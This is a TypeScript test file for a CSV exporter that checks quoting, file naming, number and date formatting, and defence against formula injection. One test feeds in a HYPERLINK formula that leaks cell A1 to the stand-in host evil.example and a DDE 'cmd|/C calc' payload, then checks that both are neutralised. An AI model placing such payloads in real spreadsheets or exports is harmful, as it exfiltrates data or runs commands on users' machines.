import { csvFormulaTriggers, csvNumber } from '@lm/domain';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { exportCell } from '../list/columns';
import { csvDefaults, csvFileName, toCsv } from './csv';

describe('CSV', () => {
  it('writes comma, CRLF, a header and no quotes by default', () => {
    expect(
      toCsv(
        ['id', 'name'],
        [
          ['1', 'Acme'],
          ['2', 'Bolt'],
        ],
        csvDefaults,
      ),
    ).toBe('id,name\r\n1,Acme\r\n2,Bolt');
  });

  it('quotes only the cells that need it, doubling quotes', () => {
    expect(toCsv(['a'], [['x,y'], ['say "hi"'], ['two\nlines']], { ...csvDefaults, header: false })).toBe(
      '"x,y"\r\n"say ""hi"""\r\n"two\nlines"',
    );
  });

  it('quotes everything when asked, with other delimiters and newlines', () => {
    expect(toCsv(['a', 'b'], [['1', '2']], { delimiter: ';', newline: '\n', header: true, quoteAll: true })).toBe(
      '"a";"b"\n"1";"2"',
    );
  });

  it('names files safely', () => {
    expect(csvFileName('loans')).toBe('loans.csv');
    expect(csvFileName('a/b:c.csv')).toBe('a-b-c.csv');
    expect(csvFileName('  ')).toBe('export.csv');
  });

  it('exports amounts as plain decimals and dates as shown', () => {
    const row = { amount: 1234.5, dueDate: '2027-03-05', status: 'ACTIVE', loan: { thirdPartyId: 'L-1' } };
    expect(exportCell({ field: 'amount', header: 'Amount', kind: 'money' }, row)).toEqual(csvNumber('1234.50'));
    expect(exportCell({ field: 'dueDate', header: 'Due', kind: 'date' }, row)).toBe('05/03/2027');
    expect(exportCell({ field: 'status', header: 'S', kind: 'enum', labels: { ACTIVE: 'Active' } }, row)).toBe(
      'Active',
    );
    expect(exportCell({ field: 'loan/thirdPartyId', header: 'Loan' }, row)).toBe('L-1');
  });

  it('writes a list export with formula text inert and amounts, negative ones too, as numbers', () => {
    const columns = [
      { field: 'name', header: 'Client' },
      { field: 'amount', header: 'Amount', kind: 'money' as const },
      { field: 'rate', header: 'Rate', kind: 'percent' as const },
    ];
    const rows = [
      { name: '=HYPERLINK("http://evil.example/?x="&A1,"Open")', amount: -1234.5, rate: -0.5 },
      { name: '@SUM(1+1)*cmd|/C calc!A0', amount: 10, rate: 7.25 },
    ];
    const text = toCsv(
      columns.map((c) => c.header),
      rows.map((row) => columns.map((c) => exportCell(c, row))),
      csvDefaults,
    );
    expect(text).toBe(
      'Client,Amount,Rate\r\n"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Open"")",-1234.50,-0.5\r\n\'@SUM(1+1)*cmd|/C calc!A0,10.00,7.25',
    );
  });

  it('never starts an exported text cell with a formula character, whatever its first character', () => {
    fc.assert(
      fc.property(fc.constantFrom(...csvFormulaTriggers), fc.string(), fc.boolean(), (first, rest, quoteAll) => {
        const name = first + rest;
        const line = toCsv(['Client'], [[exportCell({ field: 'name', header: 'Client' }, { name })]], {
          ...csvDefaults,
          header: false,
          quoteAll,
        });
        const cell = line.startsWith('"') ? line.slice(1) : line;
        expect(cell.startsWith("'")).toBe(true);
      }),
    );
  });
});
